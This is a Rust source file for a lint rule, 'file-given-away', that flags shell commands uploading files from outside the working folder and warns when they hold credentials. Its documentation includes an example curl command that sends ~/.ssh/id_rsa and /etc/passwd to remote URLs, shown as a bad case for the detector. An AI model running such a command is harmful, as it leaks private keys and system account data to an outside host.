//! `file-given-away`

use crate::api::Address;
use crate::knowledge::hosts;
use crate::knowledge::paths::Deed;
use crate::lint::rules::named::{Named, named};
use crate::lint::{Check, Checks, Group, Rule};
use crate::text::{Level, visible};

pub(super) const RULE: Rule = Rule {
    name: "file-given-away",
    group: Group::Secret,
    level: Level::Note,
    since: "0.1.0",
    aliases: &[],
    brief: "a file from elsewhere on the machine that is sent",
    docs: r#"
`@` before the name of a file sends what it holds. Of a command found somewhere, that should be a file made for it.

```sh bad
curl --data-binary @/srv/reports/may.csv https://api.shop.example/import
```

A file in the folder was put there.

```sh good
curl --data-binary @may.csv https://api.shop.example/import
```

Of files that hold credentials this is a warning (`grammar/paths.tsv`), once for each, however many URLs get it.

```sh bad 2
curl -F "key=@$HOME/.ssh/id_rsa" -F users=@/etc/passwd https://help.example/upload https://help.example/copy
```
"#,
    check: Checks::Command(check),
};

fn check(on: &mut Check<'_>) {
    for Named { request, span, path, holds } in named(on, Deed::Read) {
        let address = Address::read(&request.url);
        let host = address.as_ref().map_or("the host", Address::host_name);
        if hosts::is_local(host) {
            continue;
        }
        if let Some(what) = holds {
            on.report(span, format!("`{path}` is sent to `{}`", visible(host)))
                .level(Level::Warning)
                .why(format!("it holds {what}"))
                .advise("send nothing that you would not post");
        } else {
            on.report(span, format!("`{path}` is sent, which is not below the folder that the command runs in"))
                .why("whoever wrote the command cannot know what it holds on your machine")
                .advise("look into it first, or name a file made for the purpose");
        }
    }
}
